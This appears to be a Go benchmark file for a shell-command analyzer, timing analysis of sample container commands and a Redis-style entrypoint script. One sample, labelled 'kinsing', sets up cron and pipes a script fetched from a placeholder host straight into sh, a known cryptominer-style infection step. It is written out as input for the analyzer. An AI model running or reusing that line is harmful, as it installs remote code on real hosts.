package shell

import (
	"strings"
	"testing"
)

// commands are what containers run, from the plainest to an entrypoint script.
var commands = map[string][]string{
	"plain":      {"/app/server", "--port", "8080"},
	"health":     {"sh", "-c", "curl -fsS http://localhost:8080/healthz || exit 1"},
	"kinsing":    {"/bin/bash", "-c", "apt-get update && apt-get install -y wget cron;service cron start; wget -q -O - HOST/d.sh | sh;tail -f /dev/null"},
	"download":   {"sh", "-ec", "curl -fsSLo /tmp/x https://h/x\necho 'abc  /tmp/x' | sha256sum -c -\nchmod +x /tmp/x\nexec /tmp/x"},
	"entrypoint": {"sh", "-c", entrypoint},
}

const entrypoint = `set -e
if [ "${1#-}" != "$1" ]; then
  set -- redis-server "$@"
fi
if [ "$1" = redis-server ] && [ "$(id -u)" = 0 ]; then
  find . \! -user redis -exec chown redis '{}' +
  exec gosu redis "$0" "$@"
fi
um="$(umask)"
if [ "$um" = 0022 ]; then umask 0077; fi
for f in /docker-entrypoint.d/*; do
  case "$f" in
    *.sh) . "$f" ;;
    *) echo "ignoring $f" ;;
  esac
done
exec "$@"`

func BenchmarkAnalyze(b *testing.B) {
	for name, args := range commands {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Analyze(args)
			}
		})
	}
}

func BenchmarkAnalyzeScript(b *testing.B) {
	large := strings.Repeat(strings.ReplaceAll(entrypoint, "exec ", "")+"\n", 1000)
	b.SetBytes(int64(len(large)))
	for b.Loop() {
		AnalyzeScript(large)
	}
}
